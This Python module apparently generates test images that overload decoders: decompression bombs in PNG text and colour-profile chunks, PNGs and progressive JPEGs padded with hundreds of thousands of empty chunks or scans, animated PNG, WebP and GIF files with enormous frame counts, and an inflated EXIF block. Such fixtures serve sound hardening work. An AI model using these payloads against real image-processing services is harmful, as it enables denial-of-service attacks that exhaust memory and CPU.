"""Pictures that cost a decoder far more than they cost whoever sends them."""

from __future__ import annotations

import io
import os
import struct
import zlib

from PIL import Image

PNG = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, body: bytes = b"") -> bytes:
    """A PNG's chunk."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(*between: bytes, side: int = 64, data: bytes | None = None) -> bytes:
    """A grey PNG with these chunks between its head and its picture."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(bytes((side + 1) * side))) if data is None else data
    return b"".join((PNG, head, *between, data, chunk(b"IEND")))


def empty_scans(side: int = 4096, scans: int = 6_000) -> bytes:
    """A progressive JPEG that goes over all its pixels again and again, in 16 bytes each time (99 kB, a minute)."""
    out = io.BytesIO()
    Image.new("RGB", (side, side)).save(out, "JPEG", progressive=True, quality=20, subsampling=0)
    data = out.getvalue()
    head = data[: data.index(b"\xff\xda")]
    # The first scan of the average brightness, of all three components, and nothing behind it.
    scan = b"\xff\xda" + struct.pack(">H", 12) + bytes((3, 1, 0, 2, 0, 3, 0, 0, 0, 0))
    return head + scan * scans + b"\xff\xd9"


def empty_chunks(count: int = 950_000) -> bytes:
    """A PNG of chunks without anything in them (11 MB, 21 s)."""
    return png(chunk(b"abCd") * count)


def empty_picture_chunks(count: int = 950_000) -> bytes:
    """The same in chunks that belong to the picture."""
    return png(chunk(b"IDAT") * count)


def text_bomb(megabytes: int = 200, texts: int = 1) -> bytes:
    """Compressed words that unfold to so many megabytes."""
    words = chunk(b"zTXt", b"parameters\0\0" + zlib.compress(bytes(megabytes << 20), 9))
    return png(words * texts)


def colour_profile_bomb(megabytes: int = 200) -> bytes:
    """A compressed colour profile that unfolds to so many megabytes."""
    return png(chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(megabytes << 20), 9)))


def moving_png(frames: int = 5_000) -> bytes:
    """A PNG that moves, with frames of one pixel."""
    control = struct.pack(">IIIIHHBB", 1, 1, 0, 0, 1, 10, 0, 0)
    moves = [
        chunk(b"fcTL", struct.pack(">I", 2 * n) + control)
        + chunk(b"fdAT", struct.pack(">I", 2 * n + 1) + zlib.compress(b"\0\0"))
        for n in range(frames)
    ]
    return png(chunk(b"acTL", struct.pack(">II", frames, 0)), *moves)


def moving_webp(frames: int = 5_000, side: int = 4096) -> bytes:
    """A WebP that moves, its frames as large as they may be."""
    out = io.BytesIO()
    pictures = [Image.new("RGB", (16, 16), (n, n, n)) for n in (0, 255)]
    pictures[0].save(out, "WEBP", save_all=True, append_images=pictures[1:])
    data = out.getvalue()
    first = data.index(b"ANMF")
    length = 8 + struct.unpack_from("<I", data, first + 4)[0]
    body = data[12:first] + data[first : first + length] * frames
    sides = (side - 1).to_bytes(3, "little") * 2
    body = body[:12] + sides + body[18:]  # VP8X: flags, then width and height
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def moving_gif(frames: int = 200_000) -> bytes:
    """A GIF of frames of one pixel."""
    out = io.BytesIO()
    Image.new("P", (1, 1)).save(out, "GIF")
    data = out.getvalue()
    first = data.index(b",")
    return data[:first] + data[first:-1] * frames + b";"


def exif_bomb(entries: int = 65_535, kind: str = "JPEG") -> bytes:
    """A picture whose EXIF lists more than it has."""
    entry = struct.pack("<HHII", 0x9286, 7, 4, 0)
    block = b"Exif\0\0II*\0" + struct.pack("<I", 8) + struct.pack("<H", entries) + entry * min(entries, 5_000)
    out = io.BytesIO()
    Image.new("RGB", (64, 64)).save(out, kind, exif=block[:60_000])
    return out.getvalue()


def noise(side: int = 4096) -> bytes:
    """A picture as large as may be sent, and no better to compress than noise: honest, and as heavy as those get."""
    out = io.BytesIO()
    Image.frombytes("L", (side, side), os.urandom(side * side)).save(out, "JPEG", quality=50, progressive=True)
    return out.getvalue()
